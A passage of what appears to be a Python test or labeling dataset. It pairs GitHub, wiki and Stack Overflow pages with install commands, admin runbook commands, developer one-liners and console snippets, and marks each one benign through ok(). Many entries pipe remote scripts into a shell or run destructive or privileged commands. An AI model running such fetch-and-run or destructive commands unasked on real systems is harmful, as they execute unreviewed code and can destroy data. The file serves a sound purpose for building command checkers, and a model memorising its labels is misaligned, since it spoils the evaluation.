    ("https://github.com/openwall/john", "sudo snap install john-the-ripper"),
    ("https://github.com/fortra/impacket", "python3 -m pipx install impacket"),
    (
        "https://github.com/BloodHoundAD/BloodHound",
        "curl -L https://ghst.ly/getbhce | docker compose -f - up",
    ),
    (
        "https://github.com/mitre/caldera",
        "git clone https://github.com/mitre/caldera.git --recursive && cd caldera && pip3 install -r requirements.txt && python3 server.py --insecure --build",
    ),
    (
        "https://github.com/redcanaryco/invoke-atomicredteam",
        "IEX (IWR 'https://raw.githubusercontent.com/redcanaryco/invoke-atomicredteam/master/install-atomicredteam.ps1' -UseBasicParsing); Install-AtomicRedTeam -getAtomics",
    ),
    ("https://github.com/SigmaHQ/sigma-cli", "pipx install sigma-cli"),
    ("https://github.com/VirusTotal/yara", "brew install yara"),
    (
        "https://github.com/Neo23x0/Loki",
        "git clone https://github.com/Neo23x0/Loki.git && cd Loki && pip install -r requirements.txt",
    ),
    ("https://github.com/mandiant/capa", "pip install flare-capa"),
    ("https://github.com/mandiant/flare-floss", "pip install flare-floss"),
    (
        "https://github.com/radareorg/radare2",
        "git clone https://github.com/radareorg/radare2 && radare2/sys/install.sh",
    ),
    ("https://github.com/rizinorg/cutter", "flatpak install flathub re.rizin.cutter"),
    (
        "https://github.com/NationalSecurityAgency/ghidra",
        "unzip ghidra_11.2.1_PUBLIC_20241105.zip && ./ghidra_11.2.1_PUBLIC/ghidraRun",
    ),
    (
        "https://github.com/pwndbg/pwndbg",
        "curl -qsL 'https://install.pwndbg.re' | sh -s -- -t pwndbg-gdb",
    ),
    ("https://github.com/hugsy/gef", 'bash -c "$(curl -fsSL https://gef.blah.cat/sh)"'),
    ("https://github.com/Gallopsled/pwntools", "python3 -m pip install --upgrade pwntools"),
    ("https://github.com/volatilityfoundation/volatility3", "pip3 install volatility3"),
    ("https://github.com/sleuthkit/autopsy", "sudo snap install autopsy"),
    (
        "https://github.com/wireshark/wireshark",
        "sudo add-apt-repository ppa:wireshark-dev/stable && sudo apt install wireshark",
    ),
    ("https://github.com/bettercap/bettercap", "go install github.com/bettercap/bettercap@latest"),
    ("https://github.com/sherlock-project/sherlock", "pipx install sherlock-project"),
    (
        "https://github.com/laramies/theHarvester",
        "git clone https://github.com/laramies/theHarvester && cd theHarvester && uv sync",
    ),
    (
        "https://github.com/smicallef/spiderfoot",
        "wget https://github.com/smicallef/spiderfoot/archive/v4.0.tar.gz && tar zxvf v4.0.tar.gz && cd spiderfoot-4.0 && pip3 install -r requirements.txt",
    ),
    (
        "https://github.com/owasp-modsecurity/ModSecurity",
        "git clone --depth 1 -b v3/master --single-branch https://github.com/owasp-modsecurity/ModSecurity",
    ),
    (
        "https://github.com/coreruleset/coreruleset",
        "wget https://github.com/coreruleset/coreruleset/archive/refs/tags/v4.9.0.tar.gz",
    ),
    ("https://github.com/openssl/openssl", "./Configure && make && make test && sudo make install"),
    ("https://github.com/curl/curl", "./configure --with-openssl && make && sudo make install"),
    ("https://github.com/tmux/tmux", "sudo apt install tmux"),
    (
        "https://github.com/vim/vim",
        "git clone https://github.com/vim/vim.git && cd vim/src && make && sudo make install",
    ),
    (
        "https://github.com/fish-shell/fish-shell",
        "sudo apt-add-repository ppa:fish-shell/release-3 && sudo apt update && sudo apt install fish",
    ),
    ("https://github.com/elves/elvish", "go install src.elv.sh/cmd/elvish@latest"),
    ("https://github.com/ogham/exa", "cargo install exa"),
    ("https://github.com/apenwarr/ncdu", "sudo apt install ncdu"),
    ("https://github.com/imsnif/bandwhich", "cargo install bandwhich"),
    ("https://github.com/orf/gping", "brew install gping"),
    ("https://github.com/traviscross/mtr", "brew install mtr"),
    ("https://github.com/sivel/speedtest-cli", "pip install speedtest-cli"),
    (
        "https://github.com/showwin/speedtest-go",
        "go install github.com/showwin/speedtest-go@latest",
    ),
    ("https://github.com/dylanaraps/neofetch", "sudo apt install neofetch"),
    (
        "https://github.com/pop-os/shell",
        "git clone https://github.com/pop-os/shell.git && cd shell && make local-install",
    ),
    ("https://github.com/flameshot-org/flameshot", "sudo apt install flameshot"),
    ("https://github.com/espanso/espanso", "winget install Espanso.Espanso"),
    ("https://github.com/syncthing/syncthing-macos", "brew install --cask syncthing"),
    (
        "https://github.com/Stirling-Tools/Stirling-PDF",
        "docker run -d -p 8080:8080 --name stirling-pdf frooodle/s-pdf:latest",
    ),
    (
        "https://github.com/umami-software/umami",
        "git clone https://github.com/umami-software/umami.git && cd umami && npm install && npm run build",
    ),
    (
        "https://github.com/plausible/community-edition",
        "git clone -b v2.1.4 --single-branch https://github.com/plausible/community-edition plausible-ce",
    ),
    ("https://github.com/matomo-org/matomo", "docker run -d --name matomo -p 8080:80 matomo"),
    (
        "https://github.com/getsentry/self-hosted",
        "git clone https://github.com/getsentry/self-hosted.git && cd self-hosted && ./install.sh",
    ),
    ("https://github.com/activepieces/activepieces", "npx create-activepieces-app"),
    (
        "https://github.com/ToolJet/ToolJet",
        "docker run --name tooljet --restart unless-stopped -p 80:80 -v tooljet_data:/var/lib/postgresql/13/main tooljet/try:ee-lts-latest",
    ),
    (
        "https://github.com/baserow/baserow",
        "docker run -e BASEROW_PUBLIC_URL=http://localhost -v baserow_data:/baserow/data -p 80:80 baserow/baserow:1.29.2",
    ),
    ("https://github.com/payloadcms/payload", "npx create-payload-app@latest"),
    (
        "https://github.com/mastodon/mastodon",
        "git clone https://github.com/mastodon/mastodon.git live && cd live && git checkout $(git tag -l | grep '^v[0-9.]*$' | sort -V | tail -n 1)",
    ),
    ("https://github.com/element-hq/synapse", "pip install matrix-synapse"),
    ("https://github.com/outline/outline", "yarn install && yarn build && yarn start"),
    ("https://github.com/hedgedoc/hedgedoc", "docker compose up -d"),
    (
        "https://github.com/BookStackApp/BookStack",
        "wget https://raw.githubusercontent.com/BookStackApp/devops/main/scripts/installation-ubuntu-24.04.sh && chmod a+x installation-ubuntu-24.04.sh && sudo ./installation-ubuntu-24.04.sh",
    ),
    (
        "https://github.com/requarks/wiki",
        'docker run -d -p 8080:3000 --name wiki --restart unless-stopped -e "DB_TYPE=postgres" ghcr.io/requarks/wiki:2',
    ),
    ("https://github.com/gogs/gogs", "docker pull gogs/gogs"),
    (
        "https://github.com/prometheus/node_exporter",
        "wget https://github.com/prometheus/node_exporter/releases/download/v1.8.2/node_exporter-1.8.2.linux-amd64.tar.gz && tar xvfz node_exporter-1.8.2.linux-amd64.tar.gz",
    ),
    ("https://github.com/grafana/alloy", "sudo apt-get install alloy"),
    (
        "https://github.com/open-telemetry/opentelemetry-collector-releases",
        "sudo dpkg -i otelcol_0.115.0_linux_amd64.deb",
    ),
    ("https://github.com/parseablehq/parseable", "curl https://sh.parseable.com | sh"),
    (
        "https://github.com/coroot/coroot",
        "helm repo add coroot https://coroot.github.io/helm-charts && helm install -n coroot --create-namespace coroot-operator coroot/coroot-operator",
    ),
    ("https://github.com/robusta-dev/krr", "pip install krr"),
    (
        "https://github.com/FairwindsOps/nova",
        "brew tap fairwindsops/tap && brew install fairwindsops/tap/nova",
    ),
    ("https://github.com/jonmosco/kube-ps1", "brew install kube-ps1"),
    ("https://github.com/helmfile/helmfile", "brew install helmfile"),
    ("https://github.com/carvel-dev/ytt", "curl -L https://carvel.dev/install.sh | bash"),
    (
        "https://github.com/kubernetes-sigs/cluster-api",
        "curl -L https://github.com/kubernetes-sigs/cluster-api/releases/download/v1.9.0/clusterctl-linux-amd64 -o clusterctl && sudo install -o root -g root -m 0755 clusterctl /usr/local/bin/clusterctl",
    ),
    ("https://github.com/rancher-sandbox/rancher-desktop", "brew install --cask rancher"),
    (
        "https://github.com/containerd/nerdctl",
        "sudo tar Cxzvvf /usr/local/bin nerdctl-2.0.2-linux-amd64.tar.gz",
    ),
    ("https://github.com/containers/toolbox", "sudo dnf install toolbox"),
    (
        "https://github.com/quickemu-project/quickemu",
        "sudo apt-add-repository ppa:flexiondotorg/quickemu && sudo apt install quickemu",
    ),
    (
        "https://github.com/firecracker-microvm/firecracker",
        "curl -L https://github.com/firecracker-microvm/firecracker/releases/download/v1.10.1/firecracker-v1.10.1-x86_64.tgz | tar -xz",
    ),
    ("https://github.com/Ventoy/Ventoy", "sudo sh Ventoy2Disk.sh -i /dev/sdX"),
    ("https://github.com/balena-io/etcher", "sudo apt install ./balena-etcher_1.19.25_amd64.deb"),
    (
        "https://github.com/espressif/esp-idf",
        "git clone --recursive https://github.com/espressif/esp-idf.git && cd esp-idf && ./install.sh esp32",
    ),
    ("https://github.com/micropython/micropython", "pip install mpremote"),
    ("https://github.com/adafruit/circuitpython", "pip3 install circup"),
    ("https://github.com/qmk/qmk_firmware", "python3 -m pip install --user qmk && qmk setup"),
    ("https://github.com/zmkfirmware/zmk", "west init -l app/ && west update"),
    ("https://github.com/tasmota/tasmotizer", "pip3 install tasmotizer"),
    (
        "https://github.com/Koenkk/zigbee2mqtt",
        "sudo git clone --depth 1 https://github.com/Koenkk/zigbee2mqtt.git /opt/zigbee2mqtt && cd /opt/zigbee2mqtt && pnpm i --frozen-lockfile",
    ),
    (
        "https://github.com/eclipse/mosquitto",
        "sudo apt-add-repository ppa:mosquitto-dev/mosquitto-ppa && sudo apt install mosquitto",
    ),
    ("https://github.com/bitcoin/bitcoin", "./autogen.sh && ./configure && make"),
    ("https://github.com/NomicFoundation/hardhat", "npm install --save-dev hardhat"),
    (
        "https://github.com/starkware-libs/cairo",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.starkup.dev | sh",
    ),
    ("https://github.com/near/near-cli-rs", "npm install near-cli-rs@latest"),
    (
        "https://github.com/ethereum/go-ethereum",
        "sudo add-apt-repository -y ppa:ethereum/ethereum && sudo apt-get update && sudo apt-get install ethereum",
    ),
    ("https://github.com/paradigmxyz/reth", "cargo install --locked --path bin/reth --bin reth"),
    (
        "https://github.com/Layr-Labs/eigenlayer-cli",
        "curl -sSfL https://raw.githubusercontent.com/layr-labs/eigenlayer-cli/master/scripts/install.sh | sh -s",
    ),
    (
        "https://github.com/celestiaorg/celestia-node",
        'bash -c "$(curl -sL https://docs.celestia.org/celestia-node.sh)"',
    ),
    (
        "https://github.com/cosmos/gaia",
        "git clone https://github.com/cosmos/gaia.git && cd gaia && make install",
    ),
    ("https://github.com/godotengine/godot", "flatpak install flathub org.godotengine.Godot"),
    ("https://github.com/bevyengine/bevy", "cargo add bevy"),
    ("https://github.com/raysan5/raylib", "brew install raylib"),
    (
        "https://github.com/libsdl-org/SDL",
        "cmake -S . -B build && cmake --build build && sudo cmake --install build",
    ),
    ("https://github.com/blender/blender", "sudo snap install blender --classic"),
    ("https://github.com/FreeCAD/FreeCAD", "flatpak install flathub org.freecad.FreeCAD"),
    (
        "https://github.com/KiCad/kicad-source-mirror",
        "sudo add-apt-repository ppa:kicad/kicad-8.0-releases && sudo apt install kicad",
    ),
    ("https://github.com/prusa3d/PrusaSlicer", "flatpak install flathub com.prusa3d.PrusaSlicer"),
    (
        "https://github.com/Klipper3d/klipper",
        "git clone https://github.com/dw-0/kiauh.git && ./kiauh/kiauh.sh",
    ),
    ("https://github.com/OctoPrint/OctoPrint", "pip install OctoPrint"),
    (
        "https://github.com/inkscape/inkscape",
        "sudo add-apt-repository ppa:inkscape.dev/stable && sudo apt install inkscape",
    ),
    (
        "https://github.com/GNOME/gimp",
        "flatpak install https://flathub.org/repo/appstream/org.gimp.GIMP.flatpakref",
    ),
    ("https://github.com/darktable-org/darktable", "sudo apt install darktable"),
    ("https://github.com/audacity/audacity", "sudo snap install audacity"),
    ("https://github.com/LMMS/lmms", "flatpak install flathub io.lmms.LMMS"),
    ("https://github.com/musescore/MuseScore", "sudo snap install musescore"),
    (
        "https://github.com/zotero/zotero",
        "wget -qO- https://raw.githubusercontent.com/retorquere/zotero-deb/master/install.sh | sudo bash",
    ),
    ("https://github.com/jupyterlab/jupyterlab-desktop", "brew install --cask jupyterlab"),
    ("https://github.com/posit-dev/positron", "sudo apt install ./Positron-2024.12.0-1-x64.deb"),
    ("https://github.com/apache/spark", "pip install pyspark"),
    ("https://github.com/pola-rs/polars", "pip install polars"),
    ("https://github.com/apache/arrow", "pip install pyarrow"),
    ("https://github.com/dbt-labs/dbt-core", "python -m pip install dbt-core dbt-postgres"),
    ("https://github.com/great-expectations/great_expectations", "pip install great_expectations"),
    ("https://github.com/meltano/meltano", "pipx install meltano"),
    ("https://github.com/dlt-hub/dlt", "pip install dlt"),
    ("https://github.com/sqlfluff/sqlfluff", "pip install sqlfluff"),
    ("https://github.com/harlequin-sql/harlequin", "uv tool install harlequin"),
    ("https://github.com/dbcli/pgcli", "pip install -U pgcli"),
    ("https://github.com/dbcli/mycli", "pip install -U mycli"),
    ("https://github.com/dbcli/litecli", "pip install -U litecli"),
    (
        "https://github.com/jesseduffield/lazynpm",
        "go install github.com/jesseduffield/lazynpm@latest",
    ),
    (
        "https://github.com/sqlitebrowser/sqlitebrowser",
        "sudo add-apt-repository -y ppa:linuxgndu/sqlitebrowser && sudo apt-get install sqlitebrowser",
    ),
    ("https://github.com/beekeeper-studio/beekeeper-studio", "sudo snap install beekeeper-studio"),
    ("https://github.com/dbeaver/dbeaver", "sudo snap install dbeaver-ce"),
    (
        "https://github.com/pgadmin-org/pgadmin4",
        "curl -fsS https://www.pgadmin.org/static/packages_pgadmin_org.pub | sudo gpg --dearmor -o /usr/share/keyrings/packages-pgadmin-org.gpg",
    ),
    ("https://github.com/sosedoff/pgweb", "brew install pgweb"),
    ("https://github.com/pgbackrest/pgbackrest", "sudo apt-get install pgbackrest"),
    ("https://github.com/postgrespro/pg_probackup", "sudo apt-get install pg-probackup-16"),
    ("https://github.com/timescale/timescaledb", "sudo apt install timescaledb-2-postgresql-17"),
    (
        "https://github.com/pgvector/pgvector",
        "cd /tmp && git clone --branch v0.8.0 https://github.com/pgvector/pgvector.git && cd pgvector && make && sudo make install",
    ),
    (
        "https://github.com/qdrant/qdrant",
        "docker run -p 6333:6333 -p 6334:6334 -v $(pwd)/qdrant_storage:/qdrant/storage:z qdrant/qdrant",
    ),
    ("https://github.com/chroma-core/chroma", "pip install chromadb"),
    (
        "https://github.com/weaviate/weaviate",
        "docker run -p 8080:8080 -p 50051:50051 cr.weaviate.io/semitechnologies/weaviate:1.28.0",
    ),
    ("https://github.com/lancedb/lancedb", "pip install lancedb"),
    ("https://github.com/apache/kafka", "tar -xzf kafka_2.13-3.9.0.tgz && cd kafka_2.13-3.9.0"),
    (
        "https://github.com/hatchet-dev/hatchet",
        "curl -fsSL https://install.hatchet.run/install.sh | bash",
    ),
    (
        "https://github.com/windmill-labs/windmill",
        "curl https://raw.githubusercontent.com/windmill-labs/windmill/main/docker-compose.yml -o docker-compose.yml",
    ),
    ("https://github.com/trigger-dev/trigger.dev", "npx trigger.dev@latest init"),
    ("https://github.com/inngest/inngest", "npx inngest-cli@latest dev"),
    ("https://github.com/mage-ai/mage-ai", "pip install mage-ai"),
    ("https://github.com/ray-project/ray", 'pip install -U "ray[default]"'),
    ("https://github.com/dask/dask", 'python -m pip install "dask[complete]"'),
    (
        "https://github.com/pytorch/pytorch",
        "pip3 install torch torchvision torchaudio --index-url https://download.pytorch.org/whl/cu124",
    ),
    ("https://github.com/jax-ml/jax", 'pip install -U "jax[cuda12]"'),
    ("https://github.com/huggingface/transformers", "pip install transformers"),
    ("https://github.com/unslothai/unsloth", "pip install unsloth"),
    (
        "https://github.com/axolotl-ai-cloud/axolotl",
        "pip3 install --no-build-isolation axolotl[flash-attn,deepspeed]",
    ),
    (
        "https://github.com/ggml-org/whisper.cpp",
        "git clone https://github.com/ggml-org/whisper.cpp.git && cd whisper.cpp && sh ./models/download-ggml-model.sh base.en",
    ),
    ("https://github.com/SYSTRAN/faster-whisper", "pip install faster-whisper"),
    ("https://github.com/coqui-ai/TTS", "pip install TTS"),
    ("https://github.com/rhasspy/piper", "pip install piper-tts"),
    (
        "https://github.com/lllyasviel/Fooocus",
        "git clone https://github.com/lllyasviel/Fooocus.git && cd Fooocus && python3 -m venv fooocus_env && source fooocus_env/bin/activate && pip install -r requirements_versions.txt",
    ),
    (
        "https://github.com/oobabooga/text-generation-webui",
        "git clone https://github.com/oobabooga/text-generation-webui && cd text-generation-webui && ./start_linux.sh",
    ),
    (
        "https://github.com/danny-avila/LibreChat",
        "git clone https://github.com/danny-avila/LibreChat.git && cd LibreChat && cp .env.example .env && docker compose up -d",
    ),
    ("https://github.com/khoj-ai/khoj", "pip install khoj"),
    ("https://github.com/langchain-ai/langchain", "pip install -U langchain"),
    ("https://github.com/run-llama/llama_index", "pip install llama-index"),
    ("https://github.com/crewAIInc/crewAI", "pip install crewai"),
    (
        "https://github.com/microsoft/autogen",
        'pip install -U "autogen-agentchat" "autogen-ext[openai]"',
    ),
    ("https://github.com/BerriAI/litellm", "pip install litellm"),
    ("https://github.com/promptfoo/promptfoo", "npx promptfoo@latest init"),
    ("https://github.com/modelcontextprotocol/inspector", "npx @modelcontextprotocol/inspector"),
    (
        "https://github.com/modelcontextprotocol/servers",
        "npx -y @modelcontextprotocol/server-filesystem ~/Documents",
    ),
    ("https://github.com/cline/cline", "code --install-extension saoudrizwan.claude-dev"),
    (
        "https://github.com/TabbyML/tabby",
        "docker run -it --gpus all -p 8080:8080 -v $HOME/.tabby:/data tabbyml/tabby serve --model StarCoder-1B --device cuda",
    ),
    (
        "https://github.com/getumbrel/llama-gpt",
        "git clone https://github.com/getumbrel/llama-gpt.git && cd llama-gpt && ./run.sh --model 7b",
    ),
    (
        "https://github.com/Cosmos-Server/Cosmos-Server",
        "docker run -d --network host --privileged --name cosmos-server -h cosmos-server --restart=always -v /var/run/docker.sock:/var/run/docker.sock -v /:/mnt/host azukaar/cosmos-server:latest",
    ),
    (
        "https://github.com/tteck/Proxmox",
        'bash -c "$(wget -qLO - https://github.com/tteck/Proxmox/raw/main/misc/post-pve-install.sh)"',
    ),
    (
        "https://github.com/hwdsl2/setup-ipsec-vpn",
        "wget https://get.vpnsetup.net -O vpn.sh && sudo sh vpn.sh",
    ),
    ("https://github.com/Jigsaw-Code/outline-apps", "sudo apt install ./Outline-Client.AppImage"),
    ("https://github.com/shadowsocks/shadowsocks-rust", "cargo install shadowsocks-rust"),
    (
        "https://github.com/XTLS/Xray-install",
        'bash -c "$(curl -L https://github.com/XTLS/Xray-install/raw/main/install-release.sh)" @ install',
    ),
    (
        "https://github.com/teddysun/across",
        "wget --no-check-certificate -O bbr.sh https://github.com/teddysun/across/raw/master/bbr.sh && chmod +x bbr.sh && ./bbr.sh",
    ),
    ("https://github.com/trapexit/mergerfs", "sudo apt install mergerfs"),
    ("https://github.com/openzfs/zfs", "sudo apt install zfsutils-linux"),
    ("https://github.com/kdave/btrfs-progs", "sudo apt install btrfs-progs"),
    ("https://github.com/linuxmint/timeshift", "sudo apt install timeshift"),
    (
        "https://github.com/iredmail/iRedMail",
        "wget https://github.com/iredmail/iRedMail/archive/refs/tags/1.7.1.tar.gz && tar zxf 1.7.1.tar.gz && cd iRedMail-1.7.1 && bash iRedMail.sh",
    ),
    (
        "https://github.com/stalwartlabs/mail-server",
        "curl --proto '=https' --tlsv1.2 -sSf https://get.stalw.art/install.sh -o install.sh && sudo sh install.sh",
    ),
    (
        "https://github.com/docker-mailserver/docker-mailserver",
        "wget https://raw.githubusercontent.com/docker-mailserver/docker-mailserver/master/compose.yaml",
    ),
    (
        "https://github.com/roundcube/roundcubemail",
        "docker run -e ROUNDCUBEMAIL_DEFAULT_HOST=mail -p 8000:80 -d roundcube/roundcubemail",
    ),
    (
        "https://github.com/aapanel/aaPanel",
        'URL=https://www.aapanel.com/script/install_7.0_en.sh && if [ -f /usr/bin/curl ];then curl -ksSO "$URL" ;else wget --no-check-certificate -O install_7.0_en.sh "$URL";fi;bash install_7.0_en.sh aapanel',
    ),
    ("https://github.com/froxlor/Froxlor", "sudo apt-get install froxlor"),
    (
        "https://github.com/ajenti/ajenti",
        "curl https://raw.githubusercontent.com/ajenti/ajenti/master/scripts/install-venv.sh | sudo bash -s -",
    ),
]
for page, command in OWN_PAGES:
    ok(OWN, TERM, page, command)

# --- Installers quoted in OTHER projects' READMEs (the README says: first install X) ------------

THIRD = "installer-third-party"
for page, command in [
    (
        "https://github.com/tursodatabase/limbo",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- --default-toolchain stable --profile minimal",
    ),
    (
        "https://github.com/astral-sh/python-build-standalone",
        "curl -LsSf https://astral.sh/uv/install.sh | sh && uv python install 3.13",
    ),
    (
        "https://github.com/elysiajs/elysia",
        "curl -fsSL https://bun.sh/install | bash && bun create elysia app",
    ),
    (
        "https://github.com/honojs/hono",
        "npm create hono@latest my-app -- --template cloudflare-workers",
    ),
    (
        "https://github.com/denoland/fresh",
        "curl -fsSL https://deno.land/install.sh | sh && deno run -Ar jsr:@fresh/init",
    ),
    ("https://github.com/leptos-rs/leptos", "cargo install cargo-leptos --locked"),
    ("https://github.com/yewstack/yew", "cargo install --locked trunk"),
    ("https://github.com/rustwasm/wasm-pack", "cargo install wasm-pack"),
    (
        "https://github.com/neondatabase/neon",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
    ),
    ("https://github.com/zed-industries/extensions", "curl https://sh.rustup.rs -sSf | sh"),
    (
        "https://github.com/spacedriveapp/spacedrive",
        "curl -fsSL https://get.pnpm.io/install.sh | env PNPM_VERSION=9.15.0 sh -",
    ),
    (
        "https://github.com/AppFlowy-IO/AppFlowy",
        'sh -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    ),
    (
        "https://github.com/jellyfin/jellyfin-web",
        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
    ),
    ("https://github.com/python/cpython/blob/main/README.rst", "sudo apt-get build-dep python3"),
    ("https://github.com/sveltejs/svelte/blob/main/CONTRIBUTING.md", "npm install -g pnpm"),
    ("https://github.com/microsoft/vscode/wiki/How-to-Contribute", "npm install -g node-gyp"),
    ("https://github.com/facebook/react-native/blob/main/CONTRIBUTING.md", "brew install watchman"),
    (
        "https://github.com/tauri-apps/tauri/blob/dev/.github/CONTRIBUTING.md",
        "curl --proto '=https' --tlsv1.2 https://sh.rustup.rs -sSf | sh",
    ),
    (
        "https://github.com/apache/superset/blob/master/CONTRIBUTING.md",
        "pip install -r requirements/development.txt",
    ),
    ("https://github.com/home-assistant/core/blob/dev/README.rst", "script/setup"),
]:
    ok(THIRD, TERM, page, command)

# --- Admin commands (intranet wikis, runbooks, vendor KBs) --------------------------------------

ADMIN = "admin-command"
for page, target, command in [
    (
        "https://wiki.corp.example/it/runbooks/dns",
        TERM,
        "Resolve-DnsName intranet.corp.example -Server 10.0.0.53 -Type A",
    ),
    (
        "https://wiki.corp.example/it/runbooks/gpo",
        TERM,
        "gpupdate /force && gpresult /r /scope computer",
    ),
    (
        "https://wiki.corp.example/it/runbooks/disk",
        TERM,
        "Get-Volume | Where-Object SizeRemaining -lt 10GB | Format-Table DriveLetter, SizeRemaining",
    ),
    (
        "https://wiki.corp.example/it/runbooks/printers",
        TERM,
        "Get-Printer -ComputerName print01 | Select-Object Name, DriverName, PortName",
    ),
    (
        "https://wiki.corp.example/it/runbooks/ad",
        TERM,
        "Get-ADUser -Filter 'Enabled -eq $false' -SearchBase 'OU=Staff,DC=corp,DC=example' | Select Name, LastLogonDate",
    ),
    (
        "https://wiki.corp.example/it/runbooks/bitlocker",
        TERM,
        "manage-bde -status C: && manage-bde -protectors -get C:",
    ),
    (
        "https://wiki.corp.example/it/runbooks/updates",
        TERM,
        "Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 10",
    ),
    (
        "https://wiki.corp.example/it/runbooks/services",
        TERM,
        "Get-Service -Name Spooler, wuauserv, BITS | Restart-Service -Force -PassThru",
    ),
    (
        "https://wiki.corp.example/it/runbooks/network",
        TERM,
        "Test-NetConnection -ComputerName mail.corp.example -Port 587",
    ),
    (
        "https://wiki.corp.example/it/runbooks/time",
        TERM,
        "w32tm /resync /force; w32tm /query /status",
    ),
    (
        "https://wiki.corp.example/it/runbooks/sfc",
        TERM,
        "DISM /Online /Cleanup-Image /RestoreHealth; sfc /scannow",
    ),
    (
        "https://wiki.corp.example/it/runbooks/defender",
        TERM,
        "Update-MpSignature; Start-MpScan -ScanType QuickScan",
    ),
    (
        "https://wiki.corp.example/it/runbooks/certs",
        TERM,
        "Get-ChildItem Cert:\\LocalMachine\\My | Where-Object NotAfter -lt (Get-Date).AddDays(30)",
    ),
    (
        "https://wiki.corp.example/it/runbooks/eventlog",
        TERM,
        "Get-WinEvent -LogName System -MaxEvents 50 | Where-Object LevelDisplayName -eq 'Error'",
    ),
    (
        "https://wiki.corp.example/it/runbooks/shares",
        TERM,
        "net use S: \\\\fs01.corp.example\\Shared /persistent:yes",
    ),
    (
        "https://wiki.corp.example/linux/runbooks/journal",
        TERM,
        "journalctl -u postgresql --since '2 hours ago' -p warning --no-pager",
    ),
    (
        "https://wiki.corp.example/linux/runbooks/disk",
        TERM,
        "sudo du -xh / --max-depth=1 2>/dev/null | sort -rh | head -20",
    ),
    (
        "https://wiki.corp.example/linux/runbooks/certs",
        TERM,
        "echo | openssl s_client -connect intranet.corp.example:443 -servername intranet.corp.example 2>/dev/null | openssl x509 -noout -dates",
    ),
    (
        "https://wiki.corp.example/linux/runbooks/users",
        TERM,
        "sudo usermod -aG docker,adm jdoe && id jdoe",
    ),
    (
        "https://wiki.corp.example/linux/runbooks/firewall",
        TERM,
        "sudo ufw allow from 10.20.0.0/16 to any port 22 proto tcp && sudo ufw status numbered",
    ),
    (
        "https://wiki.corp.example/linux/runbooks/apt",
        TERM,
        "sudo apt update && sudo apt full-upgrade -y && sudo apt autoremove -y",
    ),
    (
        "https://wiki.corp.example/linux/runbooks/ssh",
        TERM,
        'ssh-keygen -t ed25519 -C "jdoe@corp.example" && ssh-copy-id jdoe@bastion.corp.example',
    ),
    (
        "https://wiki.corp.example/mac/runbooks/mdm",
        TERM,
        "sudo profiles renew -type enrollment && profiles status -type enrollment",
    ),
    (
        "https://wiki.corp.example/mac/runbooks/dns",
        TERM,
        "sudo dscacheutil -flushcache && sudo killall -HUP mDNSResponder && scutil --dns | head -20",
    ),
    (
        "https://wiki.corp.example/mac/runbooks/softwareupdate",
        TERM,
        "softwareupdate --list && sudo softwareupdate --install --all --restart",
    ),
]:
    ok(ADMIN, target, page, command)

# --- Developer one-liners ------------------------------------------------------------------------

DEV = "dev-one-liner"
for page, command in [
    (
        "https://stackoverflow.com/questions/4089430",
        "git log --oneline --graph --decorate --all --since='2 weeks ago' | head -60",
    ),
    ("https://stackoverflow.com/questions/2003505", "git push origin --delete feature/old-login"),
    (
        "https://stackoverflow.com/questions/1125968",
        "git fetch --all && git reset --hard origin/main",
    ),
    (
        "https://stackoverflow.com/questions/11801983",
        "find . -name '*.pyc' -delete && find . -name __pycache__ -type d -exec rm -rf {} +",
    ),
    ("https://stackoverflow.com/questions/3510673", "lsof -i :3000 -t | xargs kill -9"),
    (
        "https://stackoverflow.com/questions/16151018",
        "docker system prune -af --filter 'until=168h'",
    ),
    (
        "https://stackoverflow.com/questions/22049212",
        "docker exec -it $(docker ps -qf name=db) psql -U postgres",
    ),
    (
        "https://stackoverflow.com/questions/8488253",
        "python3 -m http.server 8765 --bind 127.0.0.1 --directory dist",
    ),
    (
        "https://stackoverflow.com/questions/38201431",
        "npm cache clean --force && rm -rf node_modules package-lock.json && npm install",
    ),
    (
        "https://stackoverflow.com/questions/1371261",
        "tar -czvf backup-$(date +%F).tar.gz --exclude=node_modules ./project",
    ),
    (
        "https://stackoverflow.com/questions/5410757",
        "grep -rn --include='*.ts' 'TODO' src/ | wc -l",
    ),
    (
        "https://stackoverflow.com/questions/11287861",
        "kubectl get pods -A --field-selector=status.phase!=Running,status.phase!=Succeeded -o wide",
    ),
    (
        "https://stackoverflow.com/questions/52369247",
        "kubectl logs -f deploy/api -n prod --since=10m",
    ),
    (
        "https://stackoverflow.com/questions/10175812",
        "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -keyout dev.key -out dev.crt -days 30 -nodes -subj '/CN=dev.localhost'",
    ),
    (
        "https://stackoverflow.com/questions/4585929",
        "ssh -L 5432:db.internal:5432 jdoe@bastion.corp.example -N",
    ),
    ("https://stackoverflow.com/questions/12941083", "echo 'aGVsbG8gd29ybGQ=' | base64 --decode"),
    (
        "https://stackoverflow.com/questions/3231804",
        "jq -r '.items[] | select(.status==\"failed\") | .id' results.json",
    ),
    (
        "https://stackoverflow.com/questions/11616835",
        "ffmpeg -i input.mov -vcodec h264 -acodec aac output.mp4",
    ),
    (
        "https://stackoverflow.com/questions/6637882",
        "Get-ChildItem -Recurse -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-14) | Remove-Item",
    ),
    (
        "https://stackoverflow.com/questions/37603238",
        "Set-ExecutionPolicy -Scope CurrentUser -ExecutionPolicy RemoteSigned",
    ),
]:
    ok(DEV, TERM, page, command)

# --- Console snippets ----------------------------------------------------------------------------

CONSOLE = "console-snippet"
for page, command in [
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
        "performance.getEntriesByType('resource').map(e => [e.name, Math.round(e.duration)])",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy(Array.from(document.querySelectorAll('a')).map(a => a.href))",
    ),
    (
        "https://web.dev/articles/vitals",
        "new PerformanceObserver(l => l.getEntries().forEach(e => console.log('lcp-ms', Math.round(e.startTime), e.size))).observe({type: 'largest-contentful-paint', buffered: true})",
    ),
    (
        "https://stackoverflow.com/questions/3219758",
        "[...document.querySelectorAll('img:not([alt])')].map(i => i.src)",
    ),
    (
